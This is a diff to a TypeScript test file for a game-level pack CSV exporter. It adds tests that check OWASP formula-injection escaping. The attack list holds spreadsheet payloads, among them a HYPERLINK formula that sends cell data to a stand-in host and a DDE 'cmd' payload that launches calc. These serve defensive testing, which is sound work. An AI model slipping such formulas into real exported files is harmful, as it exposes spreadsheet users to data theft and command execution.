@@ -101,16 +101,43 @@ describe('features CSV', () => {
     expect(c.slice(7, -1).every((f) => f === '')).toBe(true);
   });
 
-  it('any names and ids survive the round trip through a CSV reader', () => {
+  /** OWASP's rule, stated here on its own: a text cell that begins with = + - @ tab or CR is read back with a ' in front. */
+  const shown = (text: string): string => ('=+-@\t\r'.includes(text.charAt(0)) && text !== '' ? `'${text}` : text);
+
+  it('any names and ids survive the round trip through a CSV reader (formula starts behind a quote mark)', () => {
     const names = fc.string({ unit: 'binary', maxLength: 60 });
     fc.assert(
       fc.property(fc.array(fc.tuple(names, names), { minLength: 1, maxLength: 5 }), (pairs) => {
         const pack = createPack('p', pairs.map(([id, name], i) => level(`${i}:${id}`, name, corridor, i)));
         const records = parseCsv(text('csv', pack));
-        expect(records.slice(1).map((r) => [r[1], r[2], r[5]])).toEqual(pairs.map(([id, name], i) => [`${i}:${id}`, name, String(i)]));
+        expect(records.slice(1).map((r) => [r[1], r[2], r[5]])).toEqual(pairs.map(([id, name], i) => [`${i}:${id}`, shown(name), String(i)]));
       }),
       { numRuns: 80 },
     );
+  });
+
+  it('formula injection (OWASP): a cell that begins with = + - @ tab or CR is written as quoted text behind a quote mark; numbers stay numbers', () => {
+    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=1,2'];
+    const pack = createPack('p', [
+      ...attacks.map((name, i) => level(attacks[(i + 1) % attacks.length]!, name, corridor, i)),
+      // Harmless starts stay as they were, and a negative number is written bare.
+      level('ok', 'a=1 and -1', corridor, -3.5, { nStates: -1 }),
+    ]);
+    const csv = text('csv', pack);
+    const records = parseCsv(csv);
+    attacks.forEach((name, i) => {
+      const [, id, cellName] = records[i + 1]!;
+      expect(cellName).toBe(`'${name}`);
+      expect(id).toBe(`'${attacks[(i + 1) % attacks.length]!}`);
+    });
+    // On the wire every raw cell starts with a quote, never with a formula character.
+    csv.split('\r\n').slice(1, attacks.length + 1).forEach((line, i) => expect(line.startsWith(`${i + 1},"'`), line).toBe(true));
+    const last = records[attacks.length + 1]!;
+    const head = records[0]!;
+    expect(last[2]).toBe('a=1 and -1');
+    expect(last[head.indexOf('difficulty')]).toBe('-3.5');
+    expect(last[head.indexOf('nStates')]).toBe('-1');
+    expect(csv).toContain(',-3.5,');
   });
 });
 
